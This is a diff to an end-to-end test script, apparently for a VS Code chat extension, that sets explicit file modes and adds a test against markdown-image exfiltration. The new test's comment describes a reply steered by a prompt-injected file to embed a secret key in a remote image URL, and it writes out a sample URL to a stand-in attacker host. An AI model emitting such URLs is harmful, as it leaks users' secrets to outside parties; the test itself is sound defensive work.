@@ -163,7 +163,7 @@ const userData = path.join(tmp, 'user-data');
 const extensionsDir = path.join(tmp, 'extensions');
 const home = path.join(tmp, 'home');
 for (const dir of [hermesHome, workspace, path.join(userData, 'User'), extensionsDir, home]) {
-  fs.mkdirSync(dir, { recursive: true });
+  fs.mkdirSync(dir, { recursive: true, mode: 0o755 });
 }
 fs.writeFileSync(
   path.join(hermesHome, 'config.yaml'),
@@ -468,6 +468,34 @@ await step('an upstream failure shows inline with the daemon hint', async () => 
   await shot('05-chat-error');
 });
 
+await step('a reply cannot make the editor fetch a URL: remote images render as links', async () => {
+  // The markdown-image exfiltration attack: a reply (steered by a prompt-injected file) embeds a secret in an image URL.
+  const exfil = 'https://attacker.example/collect?d=sk-exfil-123';
+  await upstreamPost('/__config', { reply_text: `Summary done. ![status](${exfil}) ![dot](data:image/gif;base64,R0lGODlhAQABAAAAACw=)`, chunk_count: 3, chunk_delay: 0, routed_model: null });
+  await sendPrompt('Summarise the file.');
+  await waitForIdle();
+  const reply = lastReply();
+  await reply.locator('a.image-link').first().waitFor({ timeout: 10_000 });
+  const images = await reply.locator('img').evaluateAll((els) => els.map((el) => el.getAttribute('src') ?? ''));
+  const remote = images.filter((src) => !src.startsWith('data:'));
+  if (remote.length !== 0 || images.length !== 1) {
+    throw new Error(`images in the reply: ${JSON.stringify(images)}`);
+  }
+  const href = await reply.locator('a.image-link').first().getAttribute('href');
+  if (href !== exfil) {
+    throw new Error(`the remote image is not a plain link: ${href}`);
+  }
+  const csp = (await chat.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')) ?? '';
+  const imgSrc = (csp.split(';').map((d) => d.trim()).find((d) => d.startsWith('img-src ')) ?? '').split(/\s+/).slice(1);
+  // Allowed: data: and webview.cspSource, the extension's own resources ('self' and VS Code's
+  // resource host, https://*.vscode-cdn.net in code-server); no scheme-wide or other host.
+  const own = (t) => t === "'self'" || /^https:\/\/[^\s/]*\.vscode-(cdn|resource)\.[^\s/]*$/.test(t);
+  const foreign = imgSrc.filter((t) => t !== 'data:' && !own(t));
+  if (imgSrc.length === 0 || foreign.length !== 0 || imgSrc.some((t) => /^(https?:|\*)$/.test(t))) {
+    throw new Error(`img-src allows remote images: ${JSON.stringify(imgSrc)}`);
+  }
+});
+
 await step('New Chat clears the conversation', async () => {
   await chat.locator('#new-chat').click();
   await waitFor('an empty transcript', async () => (await chat.locator('article.entry').count()) === 0, 5_000);
@@ -536,7 +564,8 @@ await step('Ask About Selection sends the code with its file name', async () => 
 
 await step('a plugin added elsewhere shows up in the picker (hermes/providersChanged)', async () => {
   const pluginDir = path.join(hermesHome, 'plugins/model-providers/acme-inference');
-  fs.mkdirSync(pluginDir, { recursive: true });
+  // Modes set explicitly: hermesd refuses a plugin others could write, whatever the umask.
+  fs.mkdirSync(pluginDir, { recursive: true, mode: 0o755 });
   fs.writeFileSync(
     path.join(pluginDir, '__init__.py'),
     [
@@ -553,6 +582,7 @@ await step('a plugin added elsewhere shows up in the picker (hermes/providersCha
       '))',
       '',
     ].join('\n'),
+    { mode: 0o644 },
   );
   // The next session re-reads the plugin directories; hermesd then sends
   // hermes/providersChanged to every connected editor.
